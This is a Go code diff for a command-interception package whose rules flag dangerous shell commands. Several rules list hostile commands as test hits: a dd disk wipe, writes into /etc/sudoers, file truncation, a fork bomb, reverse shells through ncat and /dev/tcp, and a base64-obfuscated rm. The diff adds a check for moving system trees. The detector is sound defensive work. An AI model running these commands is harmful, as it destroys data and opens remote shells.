@@ -1,6 +1,10 @@
 package intercept
 
-import "strings"
+import (
+	"path"
+	"slices"
+	"strings"
+)
 
 // rules is filled at start because the functions in it refer to each other.
 var rules []Rule
@@ -37,7 +41,7 @@ var fileRules = []Rule{
 		return false
 	}, Hits: []string{"dd if=/dev/zero of=/dev/sda"}, Passes: []string{"dd if=in.bin bs=1 count=16"}},
 	{ID: "overwrite", Reason: "overwrites a device or a file of the system", names: set("cp mv tee ln install sponge crontab visudo sed ex"), match: overwrite,
-		Hits: []string{"cp image.iso /dev/sdb", "echo x >> /etc/sudoers", "ln -sf /dev/null /etc/resolv.conf"}, Passes: []string{"mv draft.md docs/", "ls > /dev/null", "echo '> /dev/sda'"}},
+		Hits: []string{"cp image.iso /dev/sdb", "echo x >> /etc/sudoers", "ln -sf /dev/null /etc/resolv.conf", "mv /etc/ /tmp/x"}, Passes: []string{"mv draft.md docs/", "ls > /dev/null", "echo '> /dev/sda'"}},
 	{ID: "truncate", Reason: "empties a file", names: set("truncate cp"), match: func(c *call) bool {
 		return c.name == "truncate" || len(c.words()) > 1 && c.words()[0] == "/dev/null"
 	}, Hits: []string{"truncate -s 0 prod.db", ": > prod.db", "cat /dev/null > prod.db"}, Passes: []string{"echo a > b", "truncate --help"}},
@@ -53,7 +57,8 @@ var fileRules = []Rule{
 		return c.name == "socat" && c.contains("exec:", "system:") || c.name != "socat" && c.flag("ec", "exec", "sh-exec")
 	}, Hits: []string{"ncat 192.0.2.1 1 -e /bin/sh", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"}, Passes: []string{"nc -z host 80"}},
 	{ID: "fork-bomb", Reason: "starts copies of itself without end", Hits: []string{"f(){ f|f& };f"}, Passes: []string{"f(){ g; }; f"}},
-	{ID: "hidden-command", Reason: "commands hold each other deeper than can be followed"},
+	{ID: "hidden-command", Reason: "commands hold each other deeper than can be followed, or a name is made while it runs",
+		Hits: []string{"$(echo rm) -rf x", "`echo cm0K | base64 -d` x"}, Passes: []string{"$EDITOR notes.md", "x=$(date) ls"}},
 }
 
 func filesystem(c *call) bool {
@@ -113,6 +118,9 @@ func overwrite(c *call) bool {
 		return false
 	}
 	last := ws[len(ws)-1]
+	if c.name == "mv" && slices.ContainsFunc(ws[:len(ws)-1], func(w string) bool { return slices.Contains(wideTargets, path.Clean(w)) }) {
+		return true // takes a tree of the system away
+	}
 	return device(last) || c.name == "mv" && (last == "/dev/null" || sensitiveTarget(ws[0]) != "") || sensitiveTarget(last) != "" && c.name != "install"
 }
 
